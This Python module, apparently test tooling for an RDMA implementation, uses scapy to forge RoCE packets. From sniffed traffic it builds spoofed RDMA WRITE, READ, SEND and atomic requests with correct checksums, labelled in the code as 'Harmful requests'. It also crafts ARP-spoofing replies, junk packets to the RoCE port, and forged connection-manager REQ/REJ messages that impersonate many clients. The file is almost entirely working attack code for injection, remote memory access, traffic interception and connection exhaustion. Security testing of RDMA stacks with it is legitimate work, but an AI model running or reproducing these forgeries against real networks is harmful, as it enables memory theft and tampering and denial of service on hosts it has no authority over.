# SPDX-License-Identifier: BSD-3-Clause
"""Makes forged frames with scapy, without code of uroce."""
import functools
import logging
import struct
import zlib
from dataclasses import dataclass

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.contrib.roce import BTH  # noqa: E402
from scapy.layers.inet import IP, UDP  # noqa: E402
from scapy.layers.l2 import ARP, Ether  # noqa: E402
from scapy.packet import Raw  # noqa: E402

PSN_MASK = 0xffffff
ACK, ATOMIC_ACK, READ_ONLY_RESPONSE = 0x11, 0x12, 0x10
SEND_ONLY, WRITE_ONLY, READ_REQUEST, FETCH_ADD = 0x04, 0x0a, 0x0c, 0x14
UC_SEND_ONLY, UD_SEND_ONLY, CNP = 0x24, 0x64, 0x81
GSI_QPN, GSI_QKEY = 1, 0x80010000
CM_ATTRIBUTE = {"REQ": 0x10, "MRA": 0x11, "REJ": 0x12, "REP": 0x13, "RTU": 0x14, "DREQ": 0x15,
                "DREP": 0x16}
TCP_PORT_SPACE = 0x0106 << 16  # prefix of the service IDs of rdma_cm; the port follows


@dataclass(frozen=True)
class Known:
    """What the attacker knows of one direction of a connection."""
    mac: str
    source: str
    dest: str
    qpn: int
    psn: int

    @staticmethod
    def overheard(frame: bytes) -> "Known":
        seen = Ether(frame)
        bth = frame[42:54]
        return Known(seen.dst, seen[IP].src, seen[IP].dst, int.from_bytes(bth[5:8], "big"),
                     int.from_bytes(bth[9:12], "big"))


def reth(va: int, rkey: int, length: int) -> bytes:
    return struct.pack("!QII", va, rkey, length)


def aeth(syndrome: int, msn: int = 0) -> bytes:
    return struct.pack("!I", syndrome << 24 | msn)


@functools.lru_cache
def template(mac: str, source: str, dest: str, opcode: int, length: int) -> bytes:
    """Returns a frame from scapy. scapy needs a millisecond for a frame, so the result is cached."""
    bth = BTH(opcode=opcode, ackreq=1, padcount=-length % 4)
    made = bytes(Ether(dst=mac, src="02:66:66:66:66:66") / IP(src=source, dst=dest, flags="DF") /
                 UDP(sport=0xc123, dport=4791, chksum=0) / bth /
                 Raw(bytes(length + -length % 4)))
    assert icrc(made) == made[-4:]
    return made


def icrc(made: bytes) -> bytes:
    """Returns the ICRC of an IPv4 frame. All bits of fields that routers may change count as ones."""
    ip = bytearray(made[14:-4])
    ip[1] = ip[8] = ip[10] = ip[11] = ip[26] = ip[27] = ip[32] = 0xff
    return zlib.crc32(bytes([0xff] * 8) + ip).to_bytes(4, "little")


def frame(known: Known, opcode: int, body: bytes = b"", **changes) -> bytes:
    """Returns a frame with a correct ICRC. @changes may have source, qpn, psn and pkey."""
    made = bytearray(template(known.mac, changes.get("source", known.source), known.dest, opcode,
                              len(body)))
    made[44:46] = changes.get("pkey", 0xffff).to_bytes(2, "big")
    made[47:50] = changes.get("qpn", known.qpn).to_bytes(3, "big")
    made[51:54] = (changes.get("psn", known.psn) & PSN_MASK).to_bytes(3, "big")
    made[54:54 + len(body)] = body
    made[-4:] = icrc(made)
    return bytes(made)


# Harmful requests. Key: kind. Value: a function of (address, key) that returns (opcode, body)
REQUESTS = {
    "SEND": lambda va, rkey: (SEND_ONLY, b"forged!!"),
    "WRITE": lambda va, rkey: (WRITE_ONLY, reth(va, rkey, 8) + b"forged!!"),
    "READ": lambda va, rkey: (READ_REQUEST, reth(va, rkey, 4096)),
    "FETCH_ADD": lambda va, rkey: (FETCH_ADD, struct.pack("!QI", va & ~7, rkey) + bytes(16)),
}


def request(known: Known, kind: str, va: int, rkey: int, **changes) -> bytes:
    return frame(known, *REQUESTS[kind](va, rkey), **changes)


def arp_reply(known: Known) -> bytes:
    """Returns an ARP reply to the host in @known, with the attacker's MAC address for its peer."""
    return bytes(Ether(dst=known.mac, src="02:66:66:66:66:66") /
                 ARP(op=2, hwsrc="02:66:66:66:66:66", psrc=known.source, hwdst=known.mac,
                     pdst=known.dest))


def junk(known: Known, octets: bytes) -> bytes:
    """Returns a UDP packet to the RoCE port with these bytes."""
    return bytes(Ether(dst=known.mac, src="02:66:66:66:66:66") /
                 IP(src=known.source, dst=known.dest, flags="DF") /
                 UDP(sport=0xc123, dport=4791, chksum=0) / Raw(octets))


def cm_message(known: Known, kind: str, fields: dict[int, bytes], **changes) -> bytes:
    """Returns a management datagram to QP 1. @fields maps offsets to bytes of the body. @changes may have source, pkey and
    tid."""
    mad = bytearray(256)
    mad[8:16] = changes.pop("tid", bytes(8))
    mad[0:4] = 1, 7, 2, 3  # base version, class, class version, Send
    mad[16:18] = CM_ATTRIBUTE[kind].to_bytes(2, "big")
    for offset, octets in fields.items():
        mad[24 + offset:24 + offset + len(octets)] = octets
    deth = struct.pack("!II", GSI_QKEY, GSI_QPN)
    return frame(known, UD_SEND_ONLY, deth + bytes(mad), qpn=GSI_QPN, psn=0, **changes)


def gid(address: str) -> bytes:
    return bytes(10) + b"\xff\xff" + bytes(int(part) for part in address.split("."))


def guid_of(mac: str) -> int:
    """Returns the modified EUI-64 of a MAC address, which other implementations use as GUID."""
    octets = bytearray.fromhex(mac.replace(":", ""))
    octets[0] ^= 2
    return int.from_bytes(octets[:3] + b"\xff\xfe" + octets[3:], "big")


def cm_request(known: Known, number: int, port: int, guid: int | None = None,
               qpn: int | None = None) -> bytes:
    """Returns a REQ for a service of the TCP port space. Each @number acts as another client."""
    guid = 0x6666 << 48 | number if guid is None else guid
    qpn = number & 0xffffff if qpn is None else qpn
    hello = bytearray(36)  # header of rdma_cm in the private data: versions, port, addresses
    hello[1] = 0x40
    hello[2:4] = (1024 + number % 60000).to_bytes(2, "big")
    hello[16:20], hello[32:36] = gid(known.source)[12:], gid(known.dest)[12:]
    return cm_message(known, "REQ", {
        0: number.to_bytes(4, "big"),
        8: (TCP_PORT_SPACE | port).to_bytes(8, "big"),
        16: guid.to_bytes(8, "big"), 32: qpn.to_bytes(3, "big"), 35: b"\x01", 39: b"\x01", 43: b"\x90",
        44: (number * 7 & 0xffffff).to_bytes(3, "big"), 47: b"\x97", 48: b"\xff\xff",
        50: b"\x30", 51: b"\xf0", 52: b"\xff\xff\xff\xff", 56: gid(known.source),
        72: gid(known.dest), 93: b"\x40", 95: b"\x90", 140: bytes(hello)})


def cm_take_back(known: Known, number: int) -> bytes:
    """Returns the REJ of a client that stops waiting for the reply to its cm_request()."""
    return cm_message(known, "REJ", {0: number.to_bytes(4, "big"), 9: b"\x10", 10: b"\0\x04",
                                     12: (0x6666 << 48 | number).to_bytes(8, "big")})
